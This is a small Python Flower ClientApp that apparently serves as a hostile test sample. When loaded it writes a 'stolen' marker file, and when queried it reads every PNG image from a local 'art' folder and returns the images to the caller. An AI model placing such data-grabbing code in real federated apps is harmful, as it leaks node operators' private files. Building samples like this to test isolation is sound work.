"""Sends home whatever the node can read, and leaves a file that shows that it ran."""

import os
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()
STOLEN = Path(os.environ["CATELIER_SITE"]).parent / "stolen"
STOLEN.write_text("this app was loaded")


@app.query()
def query(message: Message, context: Context) -> Message:
    art = Path(os.environ["CATELIER_SITE"]).parent / "art"
    pictures = {path.name: path.read_bytes() for path in art.glob("*.png")}
    return Message(RecordDict({"pictures": ConfigRecord(pictures)}), reply_to=message)
